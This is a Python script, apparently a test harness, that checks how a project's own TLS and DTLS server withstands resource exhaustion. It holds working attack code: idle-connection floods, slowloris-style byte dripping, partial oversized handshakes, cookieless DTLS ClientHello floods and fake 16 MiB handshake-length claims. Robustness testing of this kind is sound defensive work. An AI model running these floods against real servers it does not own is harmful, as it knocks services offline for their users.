# SPDX-License-Identifier: Apache-2.0
"""Attackers of a host that listens for protected hops, for a few seconds; each prints a line "name value" for what came of it.

  exhaust.py connect SERVER PORT SECONDS COUNT SOURCE...   COUNT connections of TCP that say nothing
  exhaust.py drip SERVER PORT SECONDS COUNT SOURCE...      COUNT at a time that begin TLS with an octet a second
  exhaust.py partial SERVER PORT SECONDS COUNT KEYS NAME SOURCE   as a peer that is known: the beginning of a message, and no more
  exhaust.py hello SERVER PORT SECONDS RATE SOURCE...      RATE ClientHellos of DTLS a second, without a cookie
  exhaust.py claim SERVER PORT SECONDS COUNT SOURCE...     COUNT places that get a cookie, begin, and claim handshake messages of 16 MiB
"""
import os
import selectors
import socket
import struct
import subprocess
import sys
import time

TICK_SECONDS = 0.02
HANDSHAKE, CLIENT_HELLO, SERVER_HELLO, VERIFY_REQUEST = 22, 1, 2, 3
MOST = 0xFFFFFF


def begun(server, port, source, kind=socket.SOCK_STREAM):
    """A socket from a source that is on its way to the server."""
    each = socket.socket(socket.AF_INET6, kind)
    each.setblocking(False)
    each.bind((source, 0))
    each.connect_ex((server, port))
    return each


def over(each):
    """Whether the server ended a connection."""
    try:
        return each.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def connect(server, port, seconds, count, *sources):
    """All stay open here as long as the server lets them; most are there at the same time for it to refuse."""
    poll, started, made, ended, held = selectors.DefaultSelector(), time.monotonic(), 0, 0, 0
    while (now := time.monotonic() - started) < seconds:
        while made < min(count, count * (now + TICK_SECONDS) / (0.8 * seconds)):
            poll.register(begun(server, port, sources[made % len(sources)]), selectors.EVENT_READ)
            made += 1
        for key, _ in poll.select(TICK_SECONDS):
            if over(key.fileobj):
                poll.unregister(key.fileobj)
                key.fileobj.close()
                ended += 1
        held = max(held, made - ended)
    print("made", made)
    print("ended", ended)
    print("most-open", held)


def drip(server, port, seconds, count, *sources):
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(501)
    open_, number, longest, octets = {}, 0, 0.0, 0
    started = time.monotonic()
    while (now := time.monotonic()) - started < seconds:
        for each in [each for each in open_ if over(each)]:
            longest = max(longest, now - open_.pop(each)[0])
            each.close()
        while len(open_) < count:
            open_[begun(server, port, sources[number % len(sources)])] = (now, 0)
            number += 1
        for each, (since, sent) in open_.items():
            if now - since >= sent:
                try:
                    octets += each.send(hello[sent:sent + 1])
                except OSError:
                    pass  # not connected yet, or refused
                open_[each] = (since, sent + 1)
        time.sleep(TICK_SECONDS)
    print("begun", number)
    print("octets", octets)
    print("longest-life", round(max([longest, *(time.monotonic() - since for since, _ in open_.values())]), 1))


def partial(server, port, seconds, count, keys, name, source):
    """OpenSSL shakes hands; what it is given is the length of the largest message and a part of that."""
    def peer():
        return subprocess.Popen(
            ["openssl", "s_client", "-connect", f"[{server}]:{port}", "-bind", f"[{source}]:0", "-tls1_3", "-cert", f"{keys}/{name}.pem", "-key", f"{keys}/{name}.key",
             "-CAfile", f"{keys}/ca.pem", "-quiet"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    running, number, longest = {}, 0, 0.0
    started = time.monotonic()
    while (now := time.monotonic()) - started < seconds:
        for each in [each for each in running if each.poll() is not None]:
            longest = max(longest, now - running.pop(each))
        while len(running) < count:
            each = peer()
            each.stdin.write(b"\xff\xff" + bytes(60_000))
            each.stdin.flush()
            running[each] = now
            number += 1
        time.sleep(0.2)
    for each in running:
        each.kill()
        each.wait()
    print("begun", number)
    print("longest-life", round(longest, 1))


def record(sequence, body):
    return struct.pack("!BHHHIH", HANDSHAKE, 0xFEFD, 0, 0, sequence, len(body)) + body


def message(kind, number, body, claimed=None):
    length = len(body) if claimed is None else claimed
    return bytes([kind]) + length.to_bytes(3, "big") + struct.pack("!H", number) + bytes(3) + len(body).to_bytes(3, "big") + body


def extension(kind, content):
    return struct.pack("!HH", kind, len(content)) + content


def client_hello(random, cookie=b""):
    """One that a server of ours goes on with: ECDHE-ECDSA with AES-GCM, x25519 and secp256r1, extended master secret."""
    extensions = (extension(10, struct.pack("!HHH", 4, 29, 23)) + extension(11, b"\x01\x00") + extension(13, struct.pack("!HH", 2, 0x0403)) +
                  extension(23, b"") + extension(0xFF01, b"\x00"))
    return (b"\xfe\xfd" + random + b"\x00" + bytes([len(cookie)]) + cookie + struct.pack("!HHH", 4, 0xC02C, 0xC02B) + b"\x01\x00" +
            struct.pack("!H", len(extensions)) + extensions)


def hello(server, port, seconds, rate, *sources):
    """Half of them are in order, the others claim to be a part of 16 MiB. What comes back must not be more than was sent."""
    sockets = [begun(server, port, source, socket.SOCK_DGRAM) for source in sources for _ in range(8)]
    good = record(0, message(CLIENT_HELLO, 0, client_hello(os.urandom(32))))
    bad = record(0, message(CLIENT_HELLO, 0, client_hello(os.urandom(32)), MOST))
    sent = sent_octets = got = got_octets = 0
    started = time.monotonic()
    while (now := time.monotonic() - started) < seconds:
        while sent < rate * now:
            each = sockets[sent // 2 % len(sockets)]
            data = bad if sent % 2 else good
            try:
                each.send(data)
            except OSError:
                pass  # no room, or nobody listens
            sent += 1
            sent_octets += len(data)
            while True:
                try:
                    got_octets += len(each.recv(65535))
                    got += 1
                except OSError:
                    break
        time.sleep(0.002)
    print("sent", sent)
    print("answers", got)
    print("octets-back-percent", round(100 * got_octets / max(1, sent_octets)))


def claim(server, port, seconds, count, *sources):
    begun_ = {begun(server, port, sources[number % len(sources)], socket.SOCK_DGRAM): os.urandom(32) for number in range(count)}
    cookies = accepted = claims = 0
    started = time.monotonic()
    for each, random in begun_.items():
        each.send(record(0, message(CLIENT_HELLO, 0, client_hello(random))))
    known, told = set(), False
    while (now := time.monotonic() - started) < seconds:
        if now > 1 and not told:
            told = True
            print("there", len(known), flush=True)  # a flood may begin: in the middle of it most of these would not be looked at
        for each, random in begun_.items():
            try:
                answer = each.recv(65535)
            except OSError:
                continue
            if len(answer) > 28 and answer[0] == HANDSHAKE and answer[13] == VERIFY_REQUEST:
                cookie = answer[28:28 + answer[27]]
                each.send(record(1, message(CLIENT_HELLO, 1, client_hello(random, cookie))))
                cookies += 1
            elif len(answer) > 13 and answer[0] == HANDSHAKE and answer[13] == SERVER_HELLO and each not in known:
                known.add(each)
                accepted += 1
        for each in known:
            for ahead in range(15):
                try:
                    each.send(record(2 + claims % 1000, message(11, 2 + ahead, b"\x00", MOST)))
                    claims += 1
                except OSError:
                    pass  # it is gone already
        time.sleep(0.1)
    print("cookies", cookies)
    print("handshakes-begun", accepted)
    print("claims", claims)


if __name__ == "__main__":
    what, server, port, seconds, number, *rest = sys.argv[1:]
    {"connect": connect, "drip": drip, "partial": partial, "hello": hello, "claim": claim}[what](
        server, int(port), float(seconds), int(number), *rest)
